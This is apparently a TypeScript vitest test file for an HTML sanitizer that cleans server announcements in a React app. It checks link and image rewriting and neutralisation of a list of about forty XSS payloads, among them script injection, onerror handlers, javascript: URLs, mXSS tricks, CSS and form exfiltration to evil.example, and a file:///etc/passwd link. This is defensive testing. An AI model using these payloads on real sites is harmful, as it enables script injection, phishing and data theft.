import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'

import { announcementNodes, MAX_DEPTH, MAX_NODES } from './announcement-nodes.ts'

const HERE = 'https://shelf.example'
/** Without the hints that React's server renderer adds. */
const shown = (html: string) =>
  renderToStaticMarkup(announcementNodes(html, HERE).nodes).replace(/^(?:<link [^>]*>)+/, '')

/** The elements and attributes of the output, as parsed by a browser. */
function parts(html: string): { tags: string[]; attributes: string[] } {
  const { body } = new DOMParser().parseFromString(shown(html), 'text/html')
  const elements = [...body.querySelectorAll('*')]
  return {
    tags: elements.map(({ localName }) => localName),
    attributes: elements.flatMap((element) => [...element.attributes].map(({ name }) => name)),
  }
}

test('HLT-02 an announcement keeps its text, its structure and links that lead out of the page', () => {
  expect(
    shown('<h1>Back at ten</h1><p>We <b>move</b>.<br>See <a href="https://status.example/a?b=1&c">here</a>.'),
  ).toBe(
    '<h2>Back at ten</h2><p>We <b>move</b>.<br/>See ' +
      '<a href="https://status.example/a?b=1&amp;c" target="_blank" rel="noopener noreferrer nofollow">here</a>.</p>',
  )
  expect(shown('<ul lang="ja" dir="ltr"><li>雨</ul>')).toBe('<ul lang="ja" dir="ltr"><li>雨</li></ul>')
  expect(shown('<table> <tr> <td>10:00</td> </tr> </table>')).toBe(
    '<table><tbody><tr><td>10:00</td></tr></tbody></table>',
  )
  expect(shown('<a href="mailto:a@shelf.example">a</a><a href="/works">b</a>')).toContain(
    'href="https://shelf.example/works"',
  )
  expect(announcementNodes('Back\nat ten & later', HERE)).toMatchObject({ isPlain: true, isEmpty: false })
})

test('HLT-02 its pictures are the announcing server’s or its own', () => {
  const png = 'data:image/png;base64,iVBORw0KGgo='
  expect(shown(`<img src="/api/cover/1.jpg" alt="A"><img src="${png}">`)).toBe(
    `<img src="https://shelf.example/api/cover/1.jpg" alt="A" referrerPolicy="no-referrer"/><img src="${png}" alt="" referrerPolicy="no-referrer"/>`,
  )
  for (const src of [
    'https://tracker.example/1.gif',
    '//tracker.example/1.gif',
    'data:image/svg+xml;base64,PHN2Zz4=',
    'javascript:alert(1)',
    'http://[',
    'blob:https://shelf.example/1',
  ])
    expect(shown(`<img src="${src}" onerror="alert(1)">`)).toBe('')
})

/** Known attacks, each with the text that may remain. */
const hostile: [html: string, text: string][] = [
  ['<script>alert(1)</script>', ''],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
  ['<scr<script>ipt>alert(1)</script>b', ''],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img src="x" srcset="https://evil.example/1 1x" onload=alert(1)>', ''],
  ['<b onmouseover="alert(1)" onclick=alert(1)>a</b>', 'a'],
  ['<a href="javascript:alert(1)">a</a>', 'a'],
  ['<a href=" java\nscript:alert(1)">a</a>', 'a'],
  ['<a href="&#106;avascript:alert(1)">a</a>', 'a'],
  ['<a href="data:text/html,<script>alert(1)</script>">a</a>', 'a'],
  ['<a href="vbscript:x">a</a>', 'a'],
  ['<a href="blob:https://shelf.example/1">a</a>', 'a'],
  ['<a href="file:///etc/passwd">a</a>', 'a'],
  ['<a href="https://a.example" target="_top" ping="https://evil.example" download>a</a>', 'a'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
  ['<base href="https://evil.example/">', ''],
  ['<link rel="stylesheet" href="https://evil.example/a.css">', ''],
  ['<style>body{background:url(https://evil.example)}</style>', ''],
  ['<p style="background:url(https://evil.example);position:fixed;inset:0">a</p>', 'a'],
  ['<p class="primary" id="main" name="x">a</p>', 'a'],
  ['<iframe src="https://evil.example"></iframe>', ''],
  ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', ''],
  ['<object data="https://evil.example"><b>a</b></object><embed src="https://evil.example">', ''],
  ['<form action="https://evil.example"><input name="password"><button>Log in</button>Secret?</form>', ''],
  ['<button formaction="javascript:alert(1)">a</button><select><option>a</select><textarea>a</textarea>', ''],
  ['<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>', ''],
  ['<svg><script>alert(1)</script><style><img src=x onerror=alert(1)></style></svg>', ''],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ''],
  ['<math href="javascript:alert(1)">a</math>', ''],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
  ['<template><img src=x onerror=alert(1)></template>', ''],
  ['<video src=x onerror=alert(1)><source src=x></video><audio autoplay src="https://evil.example"></audio>', ''],
  ['<details open ontoggle=alert(1)>a</details><dialog open>a</dialog>', ''],
  ['<marquee onstart=alert(1)>a</marquee><isindex><applet>a</applet><x-evil>a</x-evil>', ''],
  ['<xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x></noembed><plaintext><img src=x onerror=alert(1)>', ''],
  ['<!--><img src=x onerror=alert(1)>--><!-- a -->', '-->'],
  ['<p lang="en&quot; onclick=alert(1) x=&quot;" dir="x" popover tabindex=1 autofocus contenteditable>a</p>', 'a'],
  ['</body></html><script>alert(1)</script>', ''],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', '<script>alert(1)</script>'],
]

test.each(hostile)('HLT-02 nothing of %s runs, looks or leads otherwise than it says', (html, text) => {
  const { tags, attributes } = parts(html)
  expect(tags.filter((tag) => !/^(?:a|b|p|span|img)$/.test(tag))).toEqual([])
  expect(attributes.filter((name) => !/^(?:href|target|rel|lang|src|alt|referrerpolicy)$/.test(name))).toEqual([])
  const links = /href="([^"]*)"/g
  for (const [, href] of shown(html).matchAll(links)) expect(href).toMatch(/^(?:https?|mailto):/)
  for (const [, src] of shown(html).matchAll(/src="([^"]*)"/g)) expect(src).toMatch(/^https:\/\/shelf\.example\//)
  expect(new DOMParser().parseFromString(shown(html), 'text/html').body.textContent).toBe(text)
})

test('HLT-02 of an announcement without anything to show that is said', () => {
  for (const html of ['', ' \n', '<script>1</script>', '<p></p><br>', '<iframe src="https://a.example"></iframe>'])
    expect(announcementNodes(html, HERE).isEmpty).toBe(true)
  expect(announcementNodes('<p><img src="/a.png">', HERE).isEmpty).toBe(false)
})

test('HLT-02 what is nested too deep or too much of it is left out', () => {
  const deep = parts('<div>'.repeat(400) + 'deep')
  expect(deep.tags).toHaveLength(MAX_DEPTH)
  expect(shown('<div>'.repeat(400) + 'deep')).not.toContain('deep')
  expect(parts('<b>a</b>'.repeat(5_000)).tags.length).toBeLessThanOrEqual(MAX_NODES)
})
